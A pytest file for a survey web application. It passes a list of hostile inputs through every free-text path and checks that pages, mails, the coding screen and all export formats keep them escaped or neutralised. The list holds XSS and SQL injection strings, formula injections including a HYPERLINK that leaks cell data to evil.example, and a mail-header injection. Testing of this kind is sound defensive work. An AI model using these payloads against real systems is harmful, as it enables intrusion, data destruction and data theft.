"""The payload corpus (XSS, SQL injection, formula injection incl. full-width ＝) through every
free-text path, checked in every output: pages, mails, coding screen, .qdpx, access report and
every export format."""

from __future__ import annotations

import csv
import html
import io
import json
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from console.conftest import login
from defusedxml import ElementTree
from survey.conftest import Respondent
from survey.factories import make_link, make_wave

from webapp.domain.panel_plan import apply_plan
from webapp.extensions import db
from webapp.models import Answer, Contact, Person
from webapp.readers.panel_file import parse_panel

CORPUS = Path(__file__).parent / "data" / "corpus.yaml"
#: the payloads; each is stored as typed and must come out inert everywhere
PAYLOADS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "'; DROP TABLE answer; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM contact; --",
    '=HYPERLINK("http://evil.example/?"&A1,"klikk")',
    "＝1+2",
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "{{ 7*7 }} ${7*7} <%= 7*7 %>",
    "</textarea><script>alert(2)</script>",
    "Æøå \u202egnp.exe",
]
#: what must never appear raw in an HTML page
ACTIVE = ("<script", "<img", "<svg", "onerror=", "onload=", "</textarea>")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _inert_html(page: str, where: str) -> None:
    for payload in PAYLOADS:
        if any(a in payload for a in ACTIVE):
            assert payload not in page, f"{where}: {payload!r} unescaped"
    lowered = page.lower()
    assert (
        "<script>alert" not in lowered
        and "<img src=x" not in lowered
        and "<svg/onload" not in lowered
    ), where


@pytest.fixture
def answered(app):
    """One respondent per payload, each typing it into the free-text field and submitting."""
    with app.app_context():
        wave_id = make_wave(CORPUS)
        links = [make_link(wave_id) for _ in PAYLOADS]
    for link, payload in zip(links, PAYLOADS, strict=True):
        r = Respondent(app.test_client(), link)
        r.open()
        r.open("/side/fritekst")
        page = r.post("fritekst", {"suksess_tekst": payload}, action="submit")
        assert page.status_code == 200, page.get_data(as_text=True)[:400]
    with app.app_context():
        stored = db.session.scalars(
            sa.select(Answer.value_text).where(Answer.item_code == "suksess_tekst")
        ).all()
    assert sorted(stored) == sorted(
        p.strip() for p in PAYLOADS
    )  # stored exactly as typed, nothing lost
    return links


def test_respondent_page_shows_refused_payloads_escaped_and_keeps_them(app, answered):
    """Too long: the page comes back with the error and what was typed, escaped."""
    with app.app_context():
        link = make_link(
            db.session.scalar(sa.select(Answer.response_id).limit(1)) and answered[0].wave_id
        )
    r = Respondent(app.test_client(), link)
    r.open()
    r.open("/side/fritekst")
    typed = " ".join(PAYLOADS) + " " + "x" * 2000
    page = r.post("fritekst", {"suksess_tekst": typed}, action="submit").get_data(as_text=True)
    _inert_html(page, "respondent page")
    assert (
        html.escape(PAYLOADS[0], quote=False) in page
        or "&lt;script&gt;alert(&#39;xss&#39;)" in page
    )


def test_coding_screen_and_qdpx(app, client, users, answered):
    login(client, "researcher")
    with app.app_context():
        ids = db.session.scalars(
            sa.select(Answer.id).where(Answer.item_code == "suksess_tekst")
        ).all()
    for answer_id in ids:
        page = client.get(f"/coding/answer/{answer_id}")
        assert page.status_code == 200
        _inert_html(page.get_data(as_text=True), f"coding screen {answer_id}")
    project = client.get("/coding/export.qdpx")
    with zipfile.ZipFile(io.BytesIO(project.data)) as zf:
        xml = next(n for n in zf.namelist() if n.endswith(".qde"))
        root = ElementTree.fromstring(zf.read(xml))  # well-formed: every payload escaped
        texts = {zf.read(n).decode("utf-8") for n in zf.namelist() if n.endswith(".txt")}
    assert root is not None
    assert "<script>alert('xss')</script>" in texts  # kept as data, inert in a .txt source


def test_access_report_and_person_page(app, client, users, answered):
    login(client, "evaluator")
    with app.app_context():
        panel_id = db.session.scalar(
            sa.select(Person.panel_id).where(Person.id == answered[0].person_id)
        )
    _inert_html(
        client.get(f"/console/panel/person/{panel_id}").get_data(as_text=True), "person page"
    )
    bundle = client.get(f"/console/panel/person/{panel_id}/access.zip")
    with zipfile.ZipFile(io.BytesIO(bundle.data)) as zf:
        page = zf.read(f"{panel_id}.html").decode("utf-8")
        report = json.loads(zf.read(f"{panel_id}.json"))
    _inert_html(page, "access report")
    assert html.escape(PAYLOADS[0]) in page or "&lt;script&gt;" in page
    assert report["responses"][0]["answers"][0]["text"] == PAYLOADS[0]


def test_every_export_format(app, answered, tmp_path):
    from exports.helpers import build

    out = tmp_path / "export"
    manifest = build(
        app,
        out,
        free_text=True,
        formats=("csv", "xlsx", "sav", "dta", "parquet"),
        layouts=("wide", "waves", "long"),
    )
    names = {f["file"] for f in manifest["files"]}
    assert {
        "dekom_wide.csv",
        "dekom_wide.xlsx",
        "dekom_wide.sav",
        "dekom_wide.dta",
        "dekom_wide.parquet",
    } <= names
    cells = []
    for path in out.glob("*.csv"):
        for row in csv.reader(open(path, encoding="utf-8", newline="")):
            cells += row
    from openpyxl import load_workbook

    for path in out.glob("*.xlsx"):
        for sheet in load_workbook(path, read_only=True).worksheets:
            for row in sheet.iter_rows(values_only=True):
                cells += [c for c in row if isinstance(c, str)]
    texts = [
        c
        for c in cells
        if "alert" in c or "SUM" in c or "1+2" in c or "HYPERLINK" in c or "DROP" in c
    ]
    assert texts, "the free text is in the CSV and Excel files"
    for cell in cells:
        assert not cell.startswith(FORMULA), f"formula not neutralised: {cell!r}"
    assert "'＝1+2" in cells and '\'=HYPERLINK("http://evil.example/?"&A1,"klikk")' in cells
    import pandas as pd
    import pyreadstat

    for reader in (
        lambda p: pd.read_parquet(p),
        lambda p: pyreadstat.read_sav(str(p))[0],
        lambda p: pyreadstat.read_dta(str(p))[0],
    ):
        for path in sorted(out.glob("dekom_wide.*")):
            if path.suffix not in (".parquet", ".sav", ".dta"):
                continue
            try:
                frame = reader(path)
            except Exception:  # noqa: BLE001 - each reader takes its own format only
                continue
            values = {
                str(v)
                for col in frame.columns
                if not pd.api.types.is_numeric_dtype(frame[col])
                for v in frame[col]
            }
            assert any("DROP TABLE" in v for v in values), path.name


def test_panel_import_payload_names_are_inert_in_console_pages_and_mails(
    app, client, users, instrument
):
    head = "navn;e-post;rolle;organisasjon;fylke;kompetansenettverk\n"
    rows = "".join(
        f'"{p.replace(chr(34), chr(34) * 2)}";p{i}@x.no;skoleleder;"{p.replace(chr(34), chr(34) * 2)}";Oslo;Nett\n'
        for i, p in enumerate(PAYLOADS)
        if "\t" not in p
    )
    login(client, "evaluator")
    preview = client.post(
        "/console/panel/import",
        data={"file": (io.BytesIO((head + rows).encode()), "p.csv")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    _inert_html(preview.get_data(as_text=True), "import preview")
    with app.app_context():
        parsed = parse_panel("p.csv", (head + rows).encode())
        assert not parsed.problems, parsed.problems
        apply_plan(parsed)
        db.session.commit()
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Contact)) == len(
            parsed.rows
        )
        from console.conftest import make_wave as console_wave

        wave = console_wave(instrument, status="open")
        from webapp.domain.invitations import render_for
        from webapp.models import Invitation

        for invitation in db.session.scalars(sa.select(Invitation)):
            _subject, _text, mail_html = render_for(invitation, "invitation", "nb")
            _inert_html(mail_html, "invitation mail")
        wave_id = wave.id
    _inert_html(client.get("/console/panel").get_data(as_text=True), "panel page")
    _inert_html(
        client.get(f"/console/dashboard/{wave_id}/non-responders").get_data(as_text=True),
        "non-responders",
    )


def test_coder_memos_are_inert_on_the_coding_screen(app, client, users, answered):
    login(client, "researcher")
    with app.app_context():
        answer_id = db.session.scalar(
            sa.select(Answer.id).where(Answer.item_code == "suksess_tekst").limit(1)
        )
    for payload in PAYLOADS:
        saved = client.post(
            f"/coding/answer/{answer_id}",
            data={"memo": payload, "action": "stay"},
            follow_redirects=True,
        )
        assert saved.status_code == 200
        _inert_html(saved.get_data(as_text=True), "coding screen memo")
    with app.app_context():
        from webapp.models.coding import CodingMemo

        assert db.session.scalar(sa.select(CodingMemo.text)) == PAYLOADS[-1].strip()


def test_wave_names_are_inert_in_console_pages_and_mails(app, client, users, instrument, smtp_app):
    from console.conftest import add_person

    from webapp.domain import waves
    from webapp.domain.invitations import send_invitations

    _app, server = smtp_app
    with app.app_context():
        add_person(1)
        db.session.commit()
        ids = []
        for year, payload in enumerate(PAYLOADS[:8], start=2030):
            wave = waves.create_wave(f"{payload}\r\nX-Injected: yes", year, instrument)
            waves.open_wave(wave)
            waves.invite_panel(wave)
            db.session.commit()
            ids.append(wave.id)
            send_invitations(wave.id)
    login(client, "evaluator")
    _inert_html(client.get("/console/waves").get_data(as_text=True), "waves")
    for wave_id in ids:
        for url in (f"/console/waves/{wave_id}", f"/console/dashboard?wave={wave_id}"):
            page = client.get(url)
            assert page.status_code == 200, url
            _inert_html(page.get_data(as_text=True), url)
    assert len(server.messages) == 8
    for msg in server.messages:
        assert msg["X-Injected"] is None
        body = next(p.get_content() for p in msg.walk() if p.get_content_type() == "text/html")
        _inert_html(body, "mail")
